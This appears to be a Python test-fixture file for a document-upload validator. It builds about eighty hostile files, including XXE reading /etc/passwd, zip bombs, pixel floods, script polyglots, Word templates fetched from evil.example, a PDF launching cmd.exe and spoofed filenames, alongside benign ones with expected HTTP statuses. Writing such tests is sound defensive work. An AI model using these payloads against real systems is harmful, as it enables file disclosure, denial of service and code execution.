"""Forty files made to harm and twenty made in good faith by the libraries of real programs; none is copied.

Each is a name as it is sent, what makes its bytes, and the status of the answer. Among the hostile 201 is inert bytes.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable

from document_samples import (
    DOC,
    PDF,
    XLS,
    XLSX,
    archive,
    docx,
    jpg,
    ole,
    padded_pdf,
    picture,
    relations,
    streamed,
    types_with,
    written,
)
from docx import Document as WordFile
from docx.opc.constants import RELATIONSHIP_TYPE as RELATION_TYPE
from fpdf import FPDF
from fpdf.enums import EncryptionMethod
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference
from PIL import Image

MB = 1024 * 1024
Case = tuple[str, Callable[[], bytes], int]
HTML = b"<!doctype html><script>fetch('/api/client/documents')</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
GIF_SCRIPT = b"GIF89a/*" + bytes(20) + b"*/=1;alert(document.cookie)"
XXE = (
    b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b'<w:document xmlns:w="w"><w:t>&x;</w:t></w:document>'
)
LAUGHS = b'<!DOCTYPE w [<!ENTITY a "ha"><!ENTITY b "%s">]><w:document>&b;</w:document>' % (b"&a;" * 1000)
OUTSIDE = relations("attachedTemplate", "https://evil.example/macros.dotm")
SETTINGS = "word/_rels/settings.xml.rels"
DOCUMENT = "word/_rels/document.xml.rels"
TYPES = "[Content_Types].xml"
OBJECT = b"application/vnd.openxmlformats-officedocument.oleObject"
CHART = "word/embeddings/Microsoft_Excel_Worksheet.xlsx"


def pdf(*pages: str, catalog: bytes = b"", **options: object) -> bytes:
    """A PDF as fpdf2 writes it, with more in its catalog."""
    made = FPDF(**options)
    made.set_font("Helvetica", size=14)
    for text in pages or ("A plan",):
        made.add_page()
        made.cell(text=text)
    content = bytes(made.output())
    return content.replace(b"/Type /Catalog", b"/Type /Catalog " + catalog) if catalog else content


def locked_pdf() -> bytes:
    made = FPDF()
    made.add_page()
    made.set_encryption(owner_password="owner", user_password="user", encryption_method=EncryptionMethod.RC4)
    return bytes(made.output())


def carrying_pdf() -> bytes:
    made = FPDF()
    made.add_page()
    made.embed_file(bytes=b"MZ" + bytes(100), basename="setup.exe")
    return bytes(made.output())


def flood(width: int, height: int) -> bytes:
    """A PNG of a few hundred bytes that says that it has so many pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(bytes(100_000)))
        + chunk(b"IEND", b"")
    )


def jpeg_flood() -> bytes:
    """A JPEG whose frame says 65,500 x 65,500."""
    data = jpg()
    at = data.index(b"\xff\xc0") + 5
    return data[:at] + struct.pack(">HH", 65_500, 65_500) + data[at + 4 :]


def noise(size: int) -> bytes:
    """Text that hardly shrinks, as a comment of XML."""
    return b"<!--" + random.Random(1).randbytes(size // 2).hex().encode() + b"--></Relationships>"


def linked_letter() -> bytes:
    """A letter with a link, as python-docx writes relations."""
    made = WordFile()
    made.add_paragraph("The plan")
    made.part.relate_to("https://example.com/plan?a=1&b=2", RELATION_TYPE.HYPERLINK, is_external=True)
    target = io.BytesIO()
    made.save(target)
    return target.getvalue()


def linked_sheet(links: int) -> bytes:
    """A sheet with links and a chart, as openpyxl writes them."""
    book = Workbook()
    for number in range(1, links + 1):
        book.active.cell(number, 1, number).hyperlink = f"https://example.com/{number}?of=the-items-of-this-long-list"
    chart = BarChart()
    chart.add_data(Reference(book.active, min_col=1, min_row=1, max_row=links))
    book.active.add_chart(chart, "C3")
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def nested_bomb() -> bytes:
    """A Word file with an archive of archives in it."""
    inner = archive({"zeros": bytes(20 * MB)})
    for _ in range(3):
        inner = archive({f"{number}.zip": inner for number in range(10)})
    return docx({"word/media/all.zip": inner})


def sheet(rows: int) -> bytes:
    book = Workbook()
    for number in range(rows):
        book.active.append([number, f"Item {number}", number * 1.1])
    target = io.BytesIO()
    book.save(target)
    return target.getvalue()


def letter(paragraphs: int, with_picture: bool = False) -> bytes:
    """A Word file as python-docx writes it."""
    made = WordFile()
    for number in range(paragraphs):
        made.add_paragraph(f"Paragraph {number}: the site slopes to the east.")
    if with_picture:
        made.add_picture(io.BytesIO(picture("PNG")))
    target = io.BytesIO()
    made.save(target)
    return target.getvalue()


def animated() -> bytes:
    target = io.BytesIO()
    frames = [Image.new("RGB", (40, 40), colour) for colour in ("red", "blue")]
    frames[0].save(target, "PNG", save_all=True, append_images=frames[1:])
    return target.getvalue()


HOSTILE: dict[str, Case] = {
    "macros in a docm called docx": ("a.docx", lambda: docx({"word/vbaProject.bin": b"1"}), 415),
    **{
        f"a part that is unpacked elsewhere: {name}": ("a.docx", lambda name=name: docx({name: b"x"}), 415)
        for name in ("../../../etc/passwd", "word/../../x", "/etc/passwd", "C:/x", "word\\..\\..\\x", "\\\\host\\x")
    },
    "macros under another case": ("a.docx", lambda: docx({"word/VBAPROJECT.BIN": b"1"}), 415),
    "macros under another name": (
        "a.docx",
        lambda: docx({TYPES: types_with(b"application/vnd.ms-office.vbaProject"), "word/x.bin": b"1"}),
        415,
    ),
    "a docm's type in a docx": (
        "a.docx",
        lambda: docx({TYPES: types_with(b"application/vnd.ms-word.document.macroEnabled.main+xml")}),
        415,
    ),
    "controls that run in a docx": (
        "a.docx",
        lambda: docx({TYPES: types_with(b"application/vnd.ms-office.activeX+xml")}),
        415,
    ),
    "macros in a doc": ("a.doc", lambda: ole("WordDocument", "1Table", "_VBA_PROJECT"), 415),
    "macros in an xls": ("a.xls", lambda: ole("Workbook", "_VBA_PROJECT"), 415),
    "a docm": ("a.docm", docx, 415),
    "html as jpg": ("a.jpg", lambda: HTML, 415),
    "script as jpg": ("a.jpg", lambda: b"alert(1)", 415),
    "html in a jpg's comment": ("a.jpg", lambda: jpg(HTML), 201),
    "html after a png": ("a.png", lambda: picture("PNG") + HTML, 201),
    "svg": ("a.svg", lambda: SVG, 415),
    "svg as png": ("a.png", lambda: SVG, 415),
    "gif and script": ("a.jpg", lambda: GIF_SCRIPT, 415),
    "gif and script as gif": ("a.gif", lambda: GIF_SCRIPT, 415),
    "html": ("a.html", lambda: HTML, 415),
    "html before a pdf": ("a.pdf", lambda: HTML + PDF, 415),
    "pdf and html": ("a.pdf", lambda: pdf() + HTML, 201),
    "pdf and zip": ("a.pdf", lambda: pdf() + archive({"a.js": b"1"}), 201),
    "pdf and zip as docx": ("a.docx", lambda: pdf() + docx(), 415),
    "zip as pdf": ("a.pdf", lambda: archive({"a.html": HTML}), 415),
    "flat bomb": ("a.docx", lambda: docx({f"word/{n}.xml": bytes(90 * MB) for n in range(3)}), 415),
    "nested bomb": ("a.docx", nested_bomb, 415),
    "flood of pixels": ("a.png", lambda: flood(60_000, 60_000), 415),
    "long flood of pixels": ("a.png", lambda: flood(2**31 - 1, 1), 415),
    "flood of pixels in a jpeg": ("a.jpg", jpeg_flood, 415),
    "entities of another file": ("a.docx", lambda: docx({"word/document.xml": XXE}), 415),
    "a billion laughs": ("a.docx", lambda: docx({"word/document.xml": LAUGHS}), 415),
    "a template from outside": ("a.docx", lambda: docx({SETTINGS: OUTSIDE}), 415),
    "a template from outside, in other letters": (
        "a.docx",
        lambda: docx(
            {
                SETTINGS.upper(): OUTSIDE.decode()
                .replace('TargetMode="External"', "TargetMode='&#69;xternal'")
                .encode("utf-16")
            }
        ),
        415,
    ),
    "a template on a server": (
        "a.docx",
        lambda: docx({SETTINGS: relations("attachedTemplate", r"\\\\evil\x.dotm")}),
        415,
    ),
    "a picture from outside": (
        "a.docx",
        lambda: docx({DOCUMENT: relations("image", "http://evil.example/1.png")}),
        415,
    ),
    "a page that runs": (
        "a.docx",
        lambda: docx({DOCUMENT: relations("oleObject", "mhtml:http://evil.example!x")}),
        415,
    ),
    "a link that is none": ("a.docx", lambda: docx({DOCUMENT: relations("x/hyperlink", "http://evil.example")}), 415),
    "relations with entities": ("a.docx", lambda: docx({DOCUMENT: LAUGHS}), 415),
    "endless relations": ("a.docx", lambda: docx({DOCUMENT: OUTSIDE[:-16] + noise(9 * MB)}), 415),
    "two lists of relations": ("a.docx", lambda: docx({SETTINGS: OUTSIDE, SETTINGS.upper(): b"<a/>"}), 415),
    "an object of another program": ("a.docx", lambda: docx({"word/embeddings/oleObject1.bin": ole("Contents")}), 415),
    "an object in another folder": ("a.docx", lambda: docx({"word/media/image1.png": ole("\x01Ole10Native")}), 415),
    "an object's type": ("a.docx", lambda: docx({TYPES: types_with(OBJECT)}), 415),
    "an object's relation": ("a.docx", lambda: docx({DOCUMENT: relations("oleObject", "x.bin", "Internal")}), 415),
    "a web page put in": ("a.docx", lambda: docx({DOCUMENT: relations("aFChunk", "x.html", "Internal")}), 415),
    "a program put in": ("a.docx", lambda: docx({CHART: b"MZ" + bytes(100)}), 415),
    "a script put in": ("a.docx", lambda: docx({"word/embeddings/run.js": b"alert(1)"}), 415),
    "macros within": (
        "a.docx",
        lambda: docx({CHART: docx({TYPES: types_with(b"application/vnd.ms-office.vbaProject")})}),
        415,
    ),
    "a template from outside within": ("a.docx", lambda: docx({CHART: docx({SETTINGS: OUTSIDE})}), 415),
    "an archive that is no Office file within": ("a.docx", lambda: docx({CHART: archive({"a.exe": b"1"})}), 415),
    "too deep within": ("a.docx", lambda: docx({CHART: docx({CHART: docx({CHART: XLSX})})}), 415),
    "an old sheet's macros": (
        "a.docx",
        lambda: docx({TYPES: types_with(b"application/vnd.ms-excel.macrosheet+xml")}),
        415,
    ),
    "a macro's type in other letters": (
        "a.docx",
        lambda: docx({TYPES: types_with(b"vba&#80;roject").decode().encode("utf-16")}),
        415,
    ),
    "a file packed in a doc": ("a.doc", lambda: ole("WordDocument", "1Table", "\x01Ole10Native"), 415),
    "a file packed in an xls": ("a.xls", lambda: ole("Workbook", "\x01Ole10Native"), 415),
    "macros in a doc, in small letters": ("a.doc", lambda: ole("WordDocument", "_vba_project"), 415),
    "rich text with an object": ("a.doc", lambda: b"{\\rtf1{\\object\\objautlink\\objupdate}}", 415),
    "pdf with a script": ("a.pdf", lambda: pdf(catalog=b"/OpenAction <</S /JavaScript /JS (app.alert\\(1\\))>>"), 201),
    "pdf that starts a program": ("a.pdf", lambda: pdf(catalog=b"/OpenAction <</S /Launch /F (cmd.exe)>>"), 415),
    "pdf with a program in it": ("a.pdf", carrying_pdf, 201),
    "locked pdf": ("a.pdf", locked_pdf, 201),  # it can be read by whoever has the password
    "locked docx": ("a.docx", lambda: ole("EncryptedPackage", "EncryptionInfo"), 415),
    "cut docx": ("a.docx", lambda: docx()[:-40], 415),
    "cut jpg": ("a.jpg", lambda: picture("JPEG")[:100], 415),
    "jpg cut in half": ("a.jpg", lambda: picture("JPEG")[: len(picture("JPEG")) * 2 // 3], 415),
    "nothing": ("a.pdf", lambda: b"", 422),
    "ten megabytes and a byte": ("a.pdf", lambda: padded_pdf(10 * MB + 1), 413),
    "program behind two endings": ("plan.pdf.exe", lambda: b"MZ" + bytes(100), 415),
    "program before a good ending": ("plan.exe.pdf", lambda: b"MZ" + bytes(100), 415),
    "name that turns around": ("invoice\u202efdp.exe", lambda: PDF, 415),
    "name cut by a zero": ("plan.pdf\x00.exe", lambda: PDF, 415),
    "name of zeros": ("\x00\x00\x00", lambda: PDF, 422),
    "name of 10,000 characters": ("ä" * 10_000 + ".pdf", lambda: PDF, 201),
    "pdf as png": ("a.png", pdf, 415),
    "letter as sheet": ("a.xlsx", docx, 415),
}

GENUINE: dict[str, Case] = {
    "pdf": ("Plan.pdf", pdf, 201),
    "pdf of forty pages": ("Contract.pdf", lambda: pdf(*map(str, range(40))), 201),
    "wide pdf": ("Elevations.PDF", lambda: pdf(orientation="landscape", format="A3"), 201),
    "exactly ten megabytes": ("Survey.pdf", lambda: padded_pdf(10 * MB), 201),
    "photograph": ("IMG_0001.JPG", lambda: picture("JPEG", (4032, 3024), quality=90), 201),
    "progressive photograph": ("site.jpeg", lambda: picture("JPEG", progressive=True), 201),
    "grey scan": ("scan.jpg", lambda: picture("JPEG", mode="L"), 201),
    "printer's colours": ("brochure.jpg", lambda: picture("JPEG", mode="CMYK"), 201),
    "photograph with its place": (
        "geo.jpg",
        lambda: picture("JPEG", exif=b"Exif\x00\x00MM\x00*\x00\x00\x00\x08\x00\x00"),
        201,
    ),
    "screenshot": ("screen.png", lambda: picture("PNG", (1170, 2532)), 201),
    "see-through logo": ("logo.png", lambda: picture("PNG", mode="RGBA"), 201),
    "palette": ("sketch.png", lambda: picture("PNG", mode="P"), 201),
    "black and white": ("fax.png", lambda: picture("PNG", mode="1"), 201),
    "moving png": ("moving.png", animated, 201),
    "small sheet": ("Budget.xlsx", lambda: sheet(3), 201),
    "sheet of ten thousand lines": ("Quantities.xlsx", lambda: sheet(10_000), 201),
    "letter": ("Letter.docx", lambda: letter(3), 201),
    "long letter with a picture": ("Report.docx", lambda: letter(2000, with_picture=True), 201),
    "streamed letter": ("Streamed.docx", streamed, 201),
    "letter that is not packed": (
        "Notes.docx",
        lambda: written(b"<w:document/>", io.BytesIO(), zipfile.ZIP_STORED),
        201,
    ),
    "letter with a link": ("Links.docx", linked_letter, 201),
    "sheet with a chart and ten thousand links": ("Register.xlsx", lambda: linked_sheet(10_000), 201),
    "letter with a chart's sheet": (
        "Chart.docx",
        lambda: docx({CHART: linked_sheet(3), DOCUMENT: relations("package", "x", "Internal")}),
        201,
    ),
    "letter with a letter with a chart": ("Charts.docx", lambda: docx({CHART: docx({CHART: sheet(3)})}), 201),
    "letter of the firm's own template": (
        "Firm.docx",
        lambda: docx({SETTINGS: relations("attachedTemplate", r"file:///C:\Users\Ann\Templates\Firm.dotx")}),
        201,
    ),
    "sheet that counts with another": (
        "Sums.docx",
        lambda: docx(
            {"xl/externalLinks/_rels/externalLink1.xml.rels": relations("externalLinkPath", "Rates%202026.xlsx")}
        ),
        201,
    ),
    "sheet with a printer's settings": (
        "Printed.docx",
        lambda: docx({"xl/printerSettings/printerSettings1.bin": b"H\0P\0"}),
        201,
    ),
    "old letter": ("Old.doc", lambda: DOC, 201),
    "old sheet": ("Old.xls", lambda: XLS, 201),
    "plain sheet": ("Table 図面.xlsx", lambda: XLSX, 201),
}
